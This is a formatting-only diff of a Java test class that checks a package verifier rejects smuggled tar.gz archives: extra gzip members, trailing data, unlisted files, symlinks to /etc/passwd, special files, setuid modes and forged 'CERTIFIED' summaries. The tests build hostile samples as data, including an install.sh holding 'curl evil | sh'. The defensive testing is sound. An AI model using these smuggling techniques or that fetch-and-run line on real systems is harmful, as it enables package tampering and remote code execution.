@@ -31,6 +31,7 @@ class VerifySmugglingTest {
 
     @TempDir
     Path dir;
+
     byte[] good;
 
     @BeforeEach
@@ -52,8 +53,10 @@ class VerifySmugglingTest {
             manifest.append(Sha256.line(EMPTY_SHA256, name));
         }
         Files.writeString(pkg.resolve("MANIFEST.sha256"), manifest);
-        Files.writeString(pkg.resolve("certification_metadata.json"), "{\"manifestSha256\":\""
-                + Sha256.hex(pkg.resolve("MANIFEST.sha256")) + "\",\"certificationStatus\":\"NOT_CERTIFIED\"}\n");
+        Files.writeString(
+                pkg.resolve("certification_metadata.json"),
+                "{\"manifestSha256\":\"" + Sha256.hex(pkg.resolve("MANIFEST.sha256"))
+                        + "\",\"certificationStatus\":\"NOT_CERTIFIED\"}\n");
         names.add("MANIFEST.sha256");
         names.add("certification_metadata.json");
         Path archive = base.resolve("package.tar.gz");
@@ -80,7 +83,10 @@ class VerifySmugglingTest {
     }
 
     private static byte[] certifiedSummary() {
-        return new TarBytes().file("package/EMAIL_SUMMARY.txt", "CERTIFIED\n").endOfArchive().bytes();
+        return new TarBytes()
+                .file("package/EMAIL_SUMMARY.txt", "CERTIFIED\n")
+                .endOfArchive()
+                .bytes();
     }
 
     @Test
@@ -92,8 +98,8 @@ class VerifySmugglingTest {
 
     @Test
     void zeroPaddingAfterTheEndMarkerAndAnArchiveMadeByGnuTarPass() throws Exception {
-        CommandRun padded = verify(write("padded.tar.gz", ArchiveSmuggling.appendAfterEndOfArchive(good,
-                new byte[20 * TarBytes.BLOCK])));
+        CommandRun padded = verify(
+                write("padded.tar.gz", ArchiveSmuggling.appendAfterEndOfArchive(good, new byte[20 * TarBytes.BLOCK])));
         assertEquals(0, padded.exitCode(), padded.err());
         // GNU tar pads to 10 KiB records and writes its own headers; gzip -9 writes one member.
         Path base = dir.resolve("gnu");
@@ -112,8 +118,8 @@ class VerifySmugglingTest {
         byte[] tar = ArchiveSmuggling.gunzip(good);
         for (int split : new int[] {1, 511, 1000, tar.length - 1}) {
             byte[] first = ArchiveSmuggling.gzip(java.util.Arrays.copyOfRange(tar, 0, split));
-            byte[] joined = ArchiveSmuggling.appendGzipMember(first, java.util.Arrays.copyOfRange(tar, split,
-                    tar.length));
+            byte[] joined =
+                    ArchiveSmuggling.appendGzipMember(first, java.util.Arrays.copyOfRange(tar, split, tar.length));
             CommandRun run = verify(write("split-" + split + ".tar.gz", joined));
             assertEquals(0, run.exitCode(), "split at " + split + ": " + run.err());
         }
@@ -122,8 +128,8 @@ class VerifySmugglingTest {
     @Test
     void aSecondGzipMemberOverwritingTheEmailSummaryIsRefused() throws Exception {
         Path evil = write("member.tar.gz", ArchiveSmuggling.appendGzipMember(good, certifiedSummary()));
-        assertRefused(evil, "entry 'package/EMAIL_SUMMARY.txt'", "after the tar end-of-archive marker",
-                "gzip member 2");
+        assertRefused(
+                evil, "entry 'package/EMAIL_SUMMARY.txt'", "after the tar end-of-archive marker", "gzip member 2");
         // What tar reads: gzip -t passes (two valid members) and tar -i extracts the second summary over the first.
         assertEquals(0, run(dir, "gzip", "-t", evil.toString()).exitCode);
         Path out = Files.createDirectories(dir.resolve("extracted"));
@@ -133,14 +139,16 @@ class VerifySmugglingTest {
 
     @Test
     void trailingGarbageAfterTheGzipStreamIsRefused() throws Exception {
-        Path evil = write("garbage.tar.gz", ArchiveSmuggling.appendTrailingBytes(good,
-                "CERTIFIED\n".getBytes(StandardCharsets.UTF_8)));
+        Path evil = write(
+                "garbage.tar.gz",
+                ArchiveSmuggling.appendTrailingBytes(good, "CERTIFIED\n".getBytes(StandardCharsets.UTF_8)));
         assertRefused(evil, "trailing data after the gzip stream", "byte " + good.length);
         Tool gzip = run(dir, "gzip", "-t", evil.toString());
         assertEquals(2, gzip.exitCode, "gzip warns: " + gzip.output);
         assertTrue(gzip.output.contains("trailing garbage"), gzip.output);
         // Zero bytes are data too (gzip says "trailing zero bytes ignored").
-        assertRefused(write("zeros.tar.gz", ArchiveSmuggling.appendTrailingBytes(good, new byte[1024])),
+        assertRefused(
+                write("zeros.tar.gz", ArchiveSmuggling.appendTrailingBytes(good, new byte[1024])),
                 "trailing data after the gzip stream");
     }
 
@@ -149,7 +157,12 @@ class VerifySmugglingTest {
         Path evil = write("after-end.tar.gz", ArchiveSmuggling.appendAfterEndOfArchive(good, certifiedSummary()));
         assertRefused(evil, "entry 'package/EMAIL_SUMMARY.txt'", "after the tar end-of-archive marker");
         Tool listing = run(dir, "tar", "-tizf", evil.toString());
-        assertEquals(2, listing.output.lines().filter(l -> l.equals("package/EMAIL_SUMMARY.txt")).count(),
+        assertEquals(
+                2,
+                listing.output
+                        .lines()
+                        .filter(l -> l.equals("package/EMAIL_SUMMARY.txt"))
+                        .count(),
                 listing.output);
     }
 
@@ -163,44 +176,87 @@ class VerifySmugglingTest {
 
     @Test
     void anUnlistedExtraEntryIsRefused() throws IOException {
-        Path evil = write("extra.tar.gz", ArchiveSmuggling.insertBeforeEnd(good,
-                new TarBytes().file("package/install.sh", "curl evil | sh\n").bytes()));
+        Path evil = write(
+                "extra.tar.gz",
+                ArchiveSmuggling.insertBeforeEnd(
+                        good,
+                        new TarBytes()
+                                .file("package/install.sh", "curl evil | sh\n")
+                                .bytes()));
         assertRefused(evil, "package/install.sh", "not listed in MANIFEST.sha256");
-        Path dirOutside = write("extra-dir.tar.gz", ArchiveSmuggling.insertBeforeEnd(good,
-                new TarBytes().directory("elsewhere").bytes()));
+        Path dirOutside = write(
+                "extra-dir.tar.gz",
+                ArchiveSmuggling.insertBeforeEnd(
+                        good, new TarBytes().directory("elsewhere").bytes()));
         assertRefused(dirOutside, "'elsewhere/'", "not part of the package");
     }
 
     @Test
     void aSymlinkOutOfThePackageIsRefused() throws IOException {
-        Path evil = write("symlink.tar.gz", ArchiveSmuggling.insertBeforeEnd(good,
-                new TarBytes().symlink("package/passwd", "../../../etc/passwd").bytes()));
+        Path evil = write(
+                "symlink.tar.gz",
+                ArchiveSmuggling.insertBeforeEnd(
+                        good,
+                        new TarBytes()
+                                .symlink("package/passwd", "../../../etc/passwd")
+                                .bytes()));
         assertRefused(evil, "entry 'package/passwd'", "symbolic link");
     }
 
     @Test
     void aListedFifoDeviceOrHardLinkIsRefused() throws IOException {
         byte[] listing = Files.readAllBytes(packageListing(dir.resolve("listing"), List.of("pipe", "tty", "copy")));
-        assertRefused(write("fifo.tar.gz", ArchiveSmuggling.insertBeforeEnd(listing,
-                new TarBytes().fifo("package/pipe").bytes())), "entry 'package/pipe'", "FIFO");
-        assertRefused(write("device.tar.gz", ArchiveSmuggling.insertBeforeEnd(listing,
-                new TarBytes().characterDevice("package/tty").bytes())), "entry 'package/tty'", "character device");
-        assertRefused(write("hard.tar.gz", ArchiveSmuggling.insertBeforeEnd(listing,
-                new TarBytes().hardLink("package/copy", "package/GA_DAY_REPORT.md").bytes())),
-                "entry 'package/copy'", "hard link");
+        assertRefused(
+                write(
+                        "fifo.tar.gz",
+                        ArchiveSmuggling.insertBeforeEnd(
+                                listing, new TarBytes().fifo("package/pipe").bytes())),
+                "entry 'package/pipe'",
+                "FIFO");
+        assertRefused(
+                write(
+                        "device.tar.gz",
+                        ArchiveSmuggling.insertBeforeEnd(
+                                listing,
+                                new TarBytes().characterDevice("package/tty").bytes())),
+                "entry 'package/tty'",
+                "character device");
+        assertRefused(
+                write(
+                        "hard.tar.gz",
+                        ArchiveSmuggling.insertBeforeEnd(
+                                listing,
+                                new TarBytes()
+                                        .hardLink("package/copy", "package/GA_DAY_REPORT.md")
+                                        .bytes())),
+                "entry 'package/copy'",
+                "hard link");
     }
 
     @Test
     void aListedSetuidFileIsRefused() throws IOException {
         byte[] listing = Files.readAllBytes(packageListing(dir.resolve("listing"), List.of("run")));
-        assertRefused(write("setuid.tar.gz", ArchiveSmuggling.insertBeforeEnd(listing,
-                new TarBytes().file("package/run", new byte[0], 04755).bytes())), "entry 'package/run'", "mode 4755");
+        assertRefused(
+                write(
+                        "setuid.tar.gz",
+                        ArchiveSmuggling.insertBeforeEnd(
+                                listing,
+                                new TarBytes()
+                                        .file("package/run", new byte[0], 04755)
+                                        .bytes())),
+                "entry 'package/run'",
+                "mode 4755");
     }
 
     @Test
     void aDotSegmentNameIsRefused() throws IOException {
-        Path evil = write("dot.tar.gz", ArchiveSmuggling.insertBeforeEnd(good,
-                new TarBytes().file("package/./EMAIL_SUMMARY.txt", "CERTIFIED\n").bytes()));
+        Path evil = write(
+                "dot.tar.gz",
+                ArchiveSmuggling.insertBeforeEnd(
+                        good,
+                        new TarBytes()
+                                .file("package/./EMAIL_SUMMARY.txt", "CERTIFIED\n")
+                                .bytes()));
         assertRefused(evil, "entry 'package/./EMAIL_SUMMARY.txt'");
     }
 
@@ -222,11 +278,13 @@ class VerifySmugglingTest {
         assertTrue(plain.err().contains("not gzip data"), plain.err());
     }
 
-    private record Tool(int exitCode, String output) {
-    }
+    private record Tool(int exitCode, String output) {}
 
     private static Tool run(Path workDir, String... command) throws Exception {
-        Process process = new ProcessBuilder(command).directory(workDir.toFile()).redirectErrorStream(true).start();
+        Process process = new ProcessBuilder(command)
+                .directory(workDir.toFile())
+                .redirectErrorStream(true)
+                .start();
         String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
         assertTrue(process.waitFor(30, TimeUnit.SECONDS), String.join(" ", command) + " did not finish");
         return new Tool(process.exitValue(), output);
